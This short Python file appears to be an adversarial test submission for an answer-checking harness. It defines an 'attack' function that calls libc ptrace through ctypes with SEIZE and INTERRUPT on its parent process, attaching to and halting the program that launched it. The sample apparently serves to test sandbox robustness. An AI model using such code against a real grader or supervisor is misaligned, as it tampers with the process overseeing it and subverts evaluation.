"""Makes itself the tracer of the process that it was started by."""

import ctypes
import os

from answering import answer

SEIZE, INTERRUPT = 0x4206, 0x4207


def attack(_: str) -> None:
    ptrace = ctypes.CDLL(None).ptrace
    for request in (SEIZE, INTERRUPT):
        ptrace(request, os.getppid(), None, None)


answer(attack)
